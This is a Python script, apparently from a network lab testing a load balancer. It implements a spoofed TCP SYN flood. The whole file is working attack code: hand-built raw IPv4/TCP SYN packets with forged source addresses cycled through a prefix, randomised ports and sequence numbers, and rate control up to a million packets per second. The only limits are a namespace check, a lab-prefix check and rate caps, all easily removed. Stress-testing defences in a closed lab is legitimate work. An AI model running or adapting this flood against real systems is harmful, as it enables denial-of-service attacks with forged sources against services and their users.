#!/usr/bin/env python3
"""The lab's spoofed SYN flood (stdlib only; runs inside the xl-atk namespace).

    flood.py --dst ADDR --port P --sources PREFIX --lab-prefix PREFIX
             --count N --seconds S --rate PPS --out FILE.json

Sends N TCP SYNs (IPv4, raw socket, IP_HDRINCL) to ADDR:P at about PPS
packets per second, for S seconds at most: whichever bound comes first ends
it. Each SYN's source address is taken from PREFIX (which must lie inside
--lab-prefix, the lab-only range ecmp-lab/config.sh documents and the router
blackholes), in a fixed permutation of the prefix's addresses: with K
addresses, every source sends N / K SYNs (rounded up or down), never more.
Source ports and sequence numbers vary per packet, so every SYN is a new flow
to the balancer and the router's ECMP hash spreads them over the LB nodes.

Why not hping3 --rand-source: it draws sources from the whole IPv4 space, not
from a lab-only prefix (the lab uses hping3 for its one non-spoofed abusive
source instead).

FILE gets {"sent", "send_errors", "seconds", "pps", "started", "ended",
"sources", "max_per_source", "rate", "count", "dst", "port"}. Refuses to run
outside an xl- namespace: lab traffic never leaves the lab.
"""
import argparse
import ipaddress
import json
import math
import os
import socket
import struct
import subprocess
import sys
import time

MAX_COUNT = 5_000_000    # upper bound on --count
MAX_SECONDS = 120        # upper bound on --seconds
MAX_RATE = 1_000_000     # upper bound on --rate
BATCH = 32               # packets between two looks at the clock


def refuse_outside_lab():
    """Traffic starts only inside a lab namespace (never the machine's own)."""
    name = subprocess.run(["ip", "netns", "identify", str(os.getpid())],
                          capture_output=True, text=True).stdout.strip()
    if not name.startswith("xl-"):
        sys.exit("flood.py: refusing to send from outside an xl- lab namespace (ip netns identify: %r)" % name)


def csum_fold(s):
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def main():
    p = argparse.ArgumentParser(description="the lab's spoofed SYN flood (see the module docstring)")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sources", required=True, help="IPv4 prefix the spoofed sources are drawn from")
    p.add_argument("--lab-prefix", required=True, help="the lab-only prefix --sources must lie in")
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--rate", type=float, required=True)
    p.add_argument("--out", required=True)
    a = p.parse_args()

    dst = ipaddress.IPv4Address(a.dst)
    src_net = ipaddress.IPv4Network(a.sources)
    lab_net = ipaddress.IPv4Network(a.lab_prefix)
    if not src_net.subnet_of(lab_net):
        sys.exit("flood.py: --sources %s is not inside the lab-only prefix %s" % (src_net, lab_net))
    if not 1 <= a.port <= 65535:
        sys.exit("flood.py: --port must be 1..65535")
    count = max(0, min(a.count, MAX_COUNT))
    seconds = max(0.0, min(a.seconds, MAX_SECONDS))
    rate = max(1.0, min(a.rate, MAX_RATE))

    # Sources: the prefix without its network and broadcast address (for /31 and
    # longer: every address), visited in the order base + (i * stride) mod K.
    first = int(src_net.network_address) + (1 if src_net.prefixlen <= 30 else 0)
    k = src_net.num_addresses - (2 if src_net.prefixlen <= 30 else 0)
    stride = 40503
    while k > 1 and math.gcd(stride, k) != 1:
        stride += 2

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    dst_b = dst.packed
    dst_i = int(dst)
    # IPv4 header (the kernel fills in total length, id and header checksum with
    # IP_HDRINCL) + a 20-byte TCP header, SYN, window 64240.
    pkt = bytearray(40)
    struct.pack_into("!BBHHHBBH4s4s", pkt, 0, 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, b"\0" * 4, dst_b)
    struct.pack_into("!HHIIBBHHH", pkt, 20, 0, a.port, 0, 0, 5 << 4, 0x02, 64240, 0, 0)
    # The checksum's constant part: pseudo header (dst, protocol, TCP length)
    # and the TCP header's fixed words.
    base = (dst_i >> 16) + (dst_i & 0xFFFF) + socket.IPPROTO_TCP + 20
    base += a.port + ((5 << 4) << 8 | 0x02) + 64240

    sent = errors = 0
    per_source_max = -(-count // k) if k else 0
    t0 = time.monotonic()
    started = time.time()
    deadline = t0 + seconds
    addr = (str(dst), 0)
    pack_into = struct.pack_into
    for i in range(count):
        if i % BATCH == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            ahead = t0 + i / rate - now
            if ahead > 0:
                time.sleep(min(ahead, deadline - now))
        src = first + (i * stride) % k
        sport = 1024 + (i * 7919) % 64000
        seq = (i * 2654435761) & 0xFFFFFFFF
        c = csum_fold(base + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF))
        pack_into("!I", pkt, 12, src)
        pack_into("!HHI", pkt, 20, sport, a.port, seq)
        pack_into("!H", pkt, 36, c)
        try:
            s.sendto(pkt, addr)
            sent += 1
        except OSError:                 # ENOBUFS under load: not sent, counted
            errors += 1
    secs = time.monotonic() - t0
    s.close()
    res = {"sent": sent, "send_errors": errors, "seconds": round(secs, 3),
           "pps": round(sent / secs, 1) if secs > 0 else None, "started": started, "ended": time.time(),
           "sources": k, "sources_prefix": str(src_net), "lab_prefix": str(lab_net),
           "max_per_source": min(per_source_max, -(-sent // k) if k else 0),
           "rate": rate, "count": count, "max_seconds": seconds, "dst": str(dst), "port": a.port}
    with open(a.out, "w") as f:
        json.dump(res, f)
    print("flood: %d SYNs sent (%d send errors) in %.2f s = %.0f pps from %d sources in %s" %
          (sent, errors, secs, res["pps"] or 0, k, src_net))


if __name__ == "__main__":
    refuse_outside_lab()
    main()
